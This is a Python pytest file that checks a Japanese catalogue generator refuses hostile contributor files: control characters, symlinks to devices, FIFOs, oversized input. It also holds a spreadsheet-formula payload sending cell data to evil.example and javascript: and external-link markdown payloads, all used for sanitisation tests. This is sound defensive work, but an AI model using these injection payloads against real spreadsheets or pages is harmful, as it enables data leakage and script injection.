"""Hostile case files through every route a contributor's file takes: `catalogue validate`, `catalogue build`
and the pull-request feedback. Each is refused with a Japanese `file:line` message, never a traceback or a
hang, and nothing is written outside the project.

One row per input: how cases/bad.yml (or its neighbour) is made, the line the message must name, and words the
message must contain. The commands run as child processes with a timeout, so a hang fails the row instead of
the suite.
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Callable

import pytest

from test_errors import VALID

Make = Callable[[Path], None]


def _text(text: str) -> Make:
    return lambda cases: (cases / "bad.yml").write_text(text.replace("id: broken", "id: bad"), encoding="utf-8")


def _symlink(target: str) -> Make:
    return lambda cases: os.symlink(target, cases / "bad.yml")


def _fifo(cases: Path) -> None:
    os.mkfifo(cases / "bad.yml")


def _folder(cases: Path) -> None:
    (cases / "bad.yml").mkdir()
    (cases / "bad.yml" / "a.txt").write_text("a", encoding="utf-8")


def _subfolder(cases: Path) -> None:
    (cases / "sub").mkdir()
    (cases / "sub" / "bad.yml").write_text(VALID.replace("id: broken", "id: bad"), encoding="utf-8")


def _grown_symlink(cases: Path) -> None:  # a plain file far over the limit, reached through a symlink
    big = cases.parent / "big.yml"
    big.write_bytes(b"# " + b"a" * (400 * 1024) + b"\n")
    os.symlink(big, cases / "bad.yml")


LINE_OF_TITLE = VALID.splitlines().index("title: テスト事業") + 1
LINE_OF_VISION = VALID.splitlines().index("vision: ビジョン") + 1

# (id, make cases/bad.yml, file the message names, line, words in the message, exit of validate)
ROWS: list[tuple[str, Make, str, int, list[str], int]] = [
    ("nul-in-value", _text(VALID.replace("title: テスト事業", "title: テスト\x00事業")), "cases/bad.yml", LINE_OF_TITLE, ["制御文字", "U+0000"], 1),
    ("bel-in-value", _text(VALID.replace("vision: ビジョン", "vision: ビ\x07ジョン")), "cases/bad.yml", LINE_OF_VISION, ["制御文字", "U+0007"], 1),
    ("esc-in-comment", _text(VALID.replace("title: テスト事業", "title: テスト事業  # \x1b[31m")), "cases/bad.yml", LINE_OF_TITLE, ["制御文字", "U+001B", "コメント"], 1),
    ("u-fffe", _text(VALID.replace("vision: ビジョン", "vision: ビジョン\ufffe")), "cases/bad.yml", LINE_OF_VISION, ["制御文字", "U+FFFE"], 1),
    ("del-c1", _text(VALID.replace("title: テスト事業", "title: テスト\x85\x9b事業")), "cases/bad.yml", LINE_OF_TITLE, ["制御文字", "U+009B"], 1),
    ("folder-named-yml", _folder, "cases/bad.yml", 1, ["フォルダ"], 1),
    ("integer-5000-digits", _text(VALID.replace("target: 10", "target: " + "9" * 5000)), "cases/bad.yml",
     VALID.splitlines().index("    target: 10") + 1, ["数が長すぎます", "5,000 桁"], 1),
    ("symlink-dev-zero", _symlink("/dev/zero"), "cases/bad.yml", 1, ["シンボリックリンク"], 1),
    ("symlink-dev-urandom", _symlink("/dev/urandom"), "cases/bad.yml", 1, ["シンボリックリンク"], 1),
    ("symlink-to-large-file", _grown_symlink, "cases/bad.yml", 1, ["シンボリックリンク"], 1),
    ("fifo", _fifo, "cases/bad.yml", 1, ["普通のファイルではありません"], 1),
    ("case-in-subfolder", _subfolder, "cases/sub/bad.yml", 1, ["サブフォルダ", "cases/bad.yml に移して"], 1),
    ("too-large", _text(VALID + "# " + "あ" * 100_000 + "\n"), "cases/bad.yml", 1, ["大きすぎます", "256 KB"], 1),
    # A formula is a warning (the open data neutralises it, tests/pages/test_formula_safe.py): exit 0 with the message.
    ("formula-title", _text(VALID.replace("title: テスト事業", 'title: "=HYPERLINK(\\"https://evil.example/?x=\\"&A1,\\"開く\\")"')),
     "cases/bad.yml", LINE_OF_TITLE, ["="], 0),
]

ENV = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
TIMEOUT = 60  # seconds; each route takes about one on this machine: a hang fails here instead of filling memory


def _run(args: list[str], cwd: Path, tmp: Path) -> subprocess.CompletedProcess[str]:
    env = {**ENV, "TMPDIR": str(tmp), "HOME": str(tmp)}
    return subprocess.run([sys.executable, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=TIMEOUT)


def _outside(tmp_path: Path) -> set[Path]:
    return {p for p in tmp_path.rglob("*") if "project" not in p.relative_to(tmp_path).parts}


def _routes(project: Path, out: Path) -> dict[str, list[str]]:
    return {
        "validate": ["-m", "generator", "--root", str(project), "validate"],
        "build": ["-m", "generator", "--root", str(project), "build", "--site-dir", str(project / "site")],
        "pr-feedback": ["-m", "generator.github.pr_feedback", "collect", "--root", str(project), "--pr", "1", "--out", str(out)],
    }


SHA = "0123456789abcdef0123456789abcdef01234567"


@pytest.mark.parametrize("route", ["validate", "build", "pr-feedback"])
@pytest.mark.parametrize(("make", "file", "line", "words", "exit_code"), [r[1:] for r in ROWS], ids=[r[0] for r in ROWS])
def test_hostile_input_is_refused_in_japanese(project: Path, tmp_path: Path, route: str, make: Make, file: str,
                                              line: int, words: list[str], exit_code: int) -> None:
    if route == "build" and exit_code == 0:
        pytest.skip("a warning does not stop the build: the built open data is checked by tests/pages/test_formula_safe.py")
    make(project / "cases")
    tmp = tmp_path / "tmp"
    tmp.mkdir()
    before = _outside(tmp_path)
    out = project / "feedback"
    done = _run(_routes(project, out)[route], project, tmp)
    assert "Traceback" not in done.stderr, done.stderr
    assert _outside(tmp_path) == before, "written outside the project"
    assert not any(tmp.iterdir()), "temporary files left behind"
    if route == "pr-feedback":  # as the workflows do: collect in the pull request's job, render in the comment job
        assert done.returncode == 0, done.stderr  # it reports; the pull request's validate step fails the check
        body = project / "body.md"
        shown = _run(["-m", "generator.github.pr_feedback", "render", "--artifact", str(out / "feedback.json"), "--repo", "o/r",
                      "--sha", SHA, "--out", str(body)], project, tmp)
        assert shown.returncode == 0 and "Traceback" not in shown.stderr, shown.stderr
        said = body.read_text(encoding="utf-8")
        assert f"{file} {line} 行" in said.replace("\\", ""), said
        assert all(w in said for w in words), said
        return
    assert done.returncode == exit_code, done.stderr
    messages = [m for m in done.stderr.splitlines() if m.startswith(f"{file}:{line}:")]
    assert any(all(w in m for w in words) for m in messages), done.stderr
    if route == "build":
        assert not (project / "site").exists()


@pytest.mark.parametrize(("text", "shown"), [
    ("[見る](//evil.example/x)", '<a rel="noopener noreferrer nofollow">見る</a>'),
    ("[押す][r]\n\n[r]: javascript:alert(1)", '<a rel="noopener noreferrer nofollow">押す</a>'),
    ("[報告書](https://www.city.chiyoda.lg.jp/a)", '<a href="https://www.city.chiyoda.lg.jp/a" rel="noopener noreferrer nofollow">報告書</a>'),
])
def test_contributor_markdown_links_only_to_http_and_mailto(text: str, shown: str) -> None:
    from generator.pages.render import md

    assert shown in md(text)


def test_a_url_with_parentheses_keeps_its_address() -> None:
    """Real addresses hold ( ) and ': validation lets them pass, so the page links to them (encoded), not to '#'."""
    from urllib.parse import unquote

    from generator.pages.render import url

    written = "https://ja.wikipedia.org/wiki/Society_5.0_(概念)'s"
    assert str(url(written)) != "#" and unquote(str(url(written))) == written
    assert str(url('https://www.city.chiyoda.lg.jp/re"port')) == "#"
